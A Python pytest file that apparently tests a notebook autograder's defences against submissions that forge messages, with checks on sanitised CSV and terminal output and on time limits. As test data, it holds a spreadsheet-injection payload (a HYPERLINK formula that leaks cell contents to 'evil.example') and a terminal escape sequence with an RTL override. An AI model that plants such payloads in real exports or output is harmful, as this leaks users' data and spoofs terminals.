"""The grader's side of a run, against a child that says whatever a submission could make it say."""

import csv
import json
import socket
from collections.abc import Callable, Iterator
from time import monotonic
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_notebook
from traitlets.config import Config

from oxus.grader import execute
from oxus.grader.execute import PipedExecute, Run
from oxus.grader.outcomes import Journal, Outcome, table, write_summary
from oxus.grader.pipe import Pipe

FORMULA = '=HYPERLINK("http://evil.example/?"&A2&C2,"click")'
TITLE = "\x1b]0;owned\x07\u202e"


class Child:
    """Answers each request by what `answers` makes of it: messages in a row."""

    def __init__(self, answers: Callable[[dict[str, Any]], Iterator[dict[str, Any]]]) -> None:
        mine, theirs = socket.socketpair()
        self.theirs, self.answers, self.tokens = Pipe(theirs), answers, iter(())
        self.pipe = Answering(mine, self)

    def hear(self) -> None:
        request = self.theirs.receive()
        if "tokens" in request:
            self.tokens = iter(request["tokens"][1:])
            return
        for message in self.answers(request):
            self.theirs.send(message)

    def reply(self, request: dict[str, Any], **more: Any) -> dict[str, Any]:
        """An honest reply."""
        content = {"status": "ok", "payload": [], "execution_count": 1}
        said = {"reply": content, "id": request["id"], "token": next(self.tokens), "cpu": 0.1}
        return said | {"tampered": [], "failed": False} | more

    def interrupt(self) -> None:
        pass

    def overused(self) -> str:
        return ""

    def end(self) -> None:
        self.pipe.close()
        self.theirs.close()


class Answering(Pipe):
    """The grader's end: the child answers as soon as something is sent."""

    def __init__(self, end: socket.socket, child: Child) -> None:
        super().__init__(end)
        self.child = child

    def send(self, message: dict[str, Any]) -> None:
        super().send(message)
        self.child.hear()


def run(child: Child, cells: int = 1, **settings: Any) -> Run:
    notebook = new_notebook(cells=[new_code_cell(f"x = {n}") for n in range(cells)])
    done = PipedExecute(config=Config(PipedExecute=settings)).run(notebook, child)
    child.end()
    return done


@pytest.mark.parametrize(
    ("ended", "reason"),
    [
        (-9, "Python was killed (SIGKILL) in the middle of a cell"),
        (3, "Python ended by itself (exit status 3) in the middle of a cell"),
        (FORMULA, "the submission sent forged messages to the grader"),
        (TITLE, "the submission sent forged messages to the grader"),
        (-99, "the submission sent forged messages to the grader"),
        (10**400, "the submission sent forged messages to the grader"),
        ([1], "the submission sent forged messages to the grader"),
    ],
)
def test_a_submission_cannot_word_the_reason_for_its_end(ended, reason):
    assert run(Child(lambda _: iter([{"ended": ended, "reason": FORMULA}]))).stopped == reason


def test_what_a_submission_changed_is_named_without_control_characters():
    child = Child(lambda request: iter([child.reply(request, tampered=[TITLE, "a\nb" * 99])]))
    first, second = run(child).tampered
    assert first == "?]0;owned??" and len(second) < 110 and second.isprintable()


def test_outcomes_hold_no_formula_for_a_spreadsheet_and_no_control_characters_for_a_terminal(tmp_path):
    outcomes = [
        Outcome("aigerim", "stopped", 2.0, 5.0, reason=FORMULA, remarks=(TITLE,)),
        Outcome("bek", score=-1.0),
    ]
    path, data = write_summary(outcomes, tmp_path / "08-unit")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["reason"] == f"'{FORMULA}" and rows[1]["score"] == "-1.0", "a number is not text"
    assert json.loads(data.read_text(encoding="utf-8"))[0]["reason"] == FORMULA
    assert all(line.isprintable() for line in table(outcomes).split("\n"))


def test_a_journal_of_0_2_0_with_control_characters_does_not_reach_the_terminal(tmp_path):
    path = tmp_path / "08-unit.jsonl"
    path.write_text(
        json.dumps({"student": "aigerim", "outcome": "stopped", "reason": TITLE}) + "\n", encoding="utf-8"
    )
    entry = Journal(path).entries["aigerim"]
    assert all(
        line.isprintable()
        for line in table([Outcome(entry.student, entry.outcome, reason=entry.reason)]).split("\n")
    )


# --- the time that all cells take together ---


@pytest.fixture
def clock(monkeypatch):
    """A clock that only the test moves."""

    class Clock:
        now = monotonic()

    monkeypatch.setattr(execute, "monotonic", lambda: Clock.now)
    return Clock


def test_many_cells_that_each_keep_to_the_limit_of_a_cell_reach_that_of_the_notebook(clock):
    ran = []

    def answers(request):
        ran.append(request["source"])
        clock.now += 700
        yield child.reply(request)

    child = Child(answers)
    done = run(child, cells=6)
    assert done.stopped == "its cells ran for more than 1800 seconds together"
    assert ran == ["x = 0", "x = 1", "x = 2"]


def test_the_limit_of_the_notebook_is_a_setting(clock):
    def answers(request):
        clock.now += 700
        yield child.reply(request)

    child = Child(answers)
    assert run(child, cells=6, total_timeout=10_000).stopped == ""
    child = Child(answers)
    assert run(child, cells=2, total_timeout=60).stopped == "its cells ran for more than 60 seconds together"


def test_a_cell_that_never_ends_is_stopped_at_the_limit_of_the_notebook(clock, monkeypatch):
    """It keeps showing something, and the clock goes on with each message."""
    shown = {"msg_type": "stream", "content": {"name": "stdout", "text": "."}, "buffers": []}

    def answers(request):
        for _ in range(100):
            yield shown | {"parent_header": {"msg_id": request["id"]}}

    def later() -> float:
        clock.now += 50
        return clock.now

    monkeypatch.setattr(execute, "monotonic", later)
    assert run(Child(answers), timeout=100_000).stopped == "its cells ran for more than 1800 seconds together"
